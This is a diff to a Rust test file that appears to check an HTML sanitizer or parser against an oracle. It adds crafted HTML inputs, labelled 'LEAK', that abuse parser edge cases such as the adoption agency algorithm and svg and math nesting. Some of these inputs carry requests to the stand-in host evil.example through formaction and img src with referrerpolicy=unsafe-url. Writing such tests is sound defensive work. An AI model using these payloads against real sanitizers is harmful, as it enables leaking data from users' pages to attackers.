@@ -689,6 +689,10 @@ fn hard_cases_match_the_oracle() {
             "<div><template shadowrootmode=open><form action=/f><table><td></form><button formaction=https://evil.example/>b</button></td></table></template></div>"),
         ("LEAK: </td> from svg in an integration point closes all the svg (table scope): the submitter after it is HTML",
             "<form action=/f><table><td><svg><foreignObject><svg></td><button formaction=https://evil.example/>b</button>"),
+        ("LEAK: a second <a> runs the adoption agency's last pass over an HTML annotation-xml after a form: </annotation-xml> then closes nothing, math stays open",
+            "<a href=/f><form><annotation-xml encoding=text/html><a href=/x><math></annotation-xml><xmp><img src=//evil.example/i referrerpolicy=unsafe-url>"),
+        ("LEAK: the adoption agency takes an ordinary element before its furthest block off the stack: its end tag from svg closes nothing",
+            "<b><span><div></b></div><svg></span><xmp><img src=//evil.example/i referrerpolicy=unsafe-url>"),
     ];
     let setup = setup();
     let mut failures = String::new();
